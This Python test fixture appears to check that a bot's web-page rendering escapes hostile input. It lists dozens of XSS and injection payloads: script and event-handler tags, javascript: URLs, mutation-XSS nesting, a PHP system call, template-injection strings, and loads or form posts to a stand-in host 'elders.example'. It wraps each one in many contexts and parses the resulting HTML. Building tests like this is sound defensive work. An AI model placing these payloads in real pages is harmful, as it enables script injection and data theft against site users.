"""A thousand things to type that try to be more than words on a page; always the same ones. No digits: nobody counts.

Each shape is a way in that was used against pages somewhere, written by us; each wrapping is a place it may land in.
"""

from collections.abc import Iterator
from html.parser import HTMLParser
from itertools import product

from tests.bot.web_page import CLOSED_BY_ITSELF

SHAPES = (
    "<script>alert(document.domain)</script>",
    "<ScRiPt src=//elders.example/x.js></sCrIpT>",
    "<script\x0b>alert`x`</script\t>",
    "<scr<script>ipt>alert`x`</scr</script>ipt>",
    "<img src=x onerror=alert`x`>",
    "<img/src='x'/onerror='alert`x`'//",
    "<svg/onload=alert`x`>",
    "<svg><script href=data:,alert`x` />",
    "<svg><animate onbegin=alert`x` attributeName=x dur=s>",
    "<math><mtext><table><mglyph><style><img src onerror=alert`x`>",
    "<body onload=alert`x`>",
    "<iframe srcdoc='<script>alert`x`</script>'></iframe>",
    "<iframe src=javascript:alert`x`>",
    "<object data=data:text/html,<script>alert`x`</script>>",
    "<base href=//elders.example/>",
    "<meta http-equiv=refresh content='x;url=//elders.example'>",
    "<link rel=stylesheet href=//elders.example/x.css>",
    "<style>*{display:none}</style>",
    "<form action=//elders.example><button>Versturen</button>",
    "<input name=token value=gestolen autofocus onfocus=alert`x`>",
    "<button name=tap value='x q:x:x'>Ja</button>",
    "<details open ontoggle=alert`x`>",
    "<video><source onerror=alert`x`></video>",
    "<a href=javascript:alert`x`>klik</a>",
    "<a href='data:text/html;base,PHNjcmlwdD4='>klik</a>",
    "</textarea><script>alert`x`</script>",
    "</p></li></ol></form><h1>weg</h1>",
    "</title></style></script><b>",
    "</template><!--><img src=x onerror=alert`x`>",
    "<!-- --!> --> <b>",
    "<![CDATA[<b>]]>",
    "<?php system('ls'); ?><%= x %>",
    '" autofocus onfocus=alert`x` x="',
    "' onmouseover=alert`x` x='",
    "` onclick=alert`x` x=`",
    '"><img src=x onerror=alert`x`><p x="',
    "&lt;script&gt;alert`x`&lt;/script&gt;",
    "&#x&lt; &#x3c;b&#x3e; &amp;amp;".replace("3", "\u0663"),
    "&lt &gt; &quot; &apos; &nbsp &unknown;",
    "{{ self.__init__.__globals__ }}",
    "{% include 'base.html' %}{# x #}",
    "${alert`x`} #{x} <%- x %> [[x]]",
    "{titel} {verhaal} {kanaal} *vet* {code}",
    "javascript:alert`x`//",
    "background:url(javascript:alert`x`);expression(x)",
    "\u202edraai om\u202c \u2066links\u2069 \u200frechts",
    "nul\x00teken\x1b[mscherm\x07",
    "sta" + "\u0301" * 300 + "pel" + "\u0336" * 40,
    "\u2028regel\u2029alinea\x85nieuw\x0c\x0b",
    "\ud83d half \udc00 \ufeff\ufffe\uffff",
)

WRAPS = (
    "{}",
    "woorden en dan {}",
    "{} en verder",
    "{}\n{}",
    "{}\r\n\r{}",
    "*{}*",
    "«{}»",
    '"{}"',
    "'{}'",
    "`{}`",
    "<p>{}</p>",
    '<div title="{}">',
    "<!--{}-->",
    "<textarea>{}</textarea>",
    "{{{}}}",
    "%s %n {}",
    "\\{}\\",
    '=HYPERLINK("{}")',
    "\t{}\u00a0",
    "<{}>",
)
LETTERS = "bcdfghjklm"


def hostile() -> list[str]:
    """All of them; each has a word of its own, at its end or in front."""
    found = []
    for at, (shape, wrap) in enumerate(product(SHAPES, WRAPS)):
        words, name = wrap.replace("{}", shape), "qx" + "".join(LETTERS[int(digit)] for digit in f"{at:04}")
        found.append(f"{words} {name}" if at % 2 else f"{name} {words}")
    return found


Tag = tuple[str, tuple[tuple[str, str | None], ...]]


def tags(html: str) -> list[Tag]:
    """Every element of a page with all its attributes, in order; a new line is none."""
    return list(_Tags(html).found())


class _Tags(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__()
        self._found: list[Tag] = []
        self._open: list[str] = []
        self.feed(html)
        self.close()
        assert self._open == []

    def found(self) -> Iterator[Tag]:
        return (tag for tag in self._found if tag[0] != "br")

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._found.append((tag, tuple(attrs)))
        if tag not in CLOSED_BY_ITSELF:
            self._open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self._open.pop() == tag

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data!r}")

    def unknown_decl(self, data: str) -> None:
        raise AssertionError(f"a declaration: {data!r}")

    def handle_pi(self, data: str) -> None:
        raise AssertionError(f"an instruction: {data!r}")
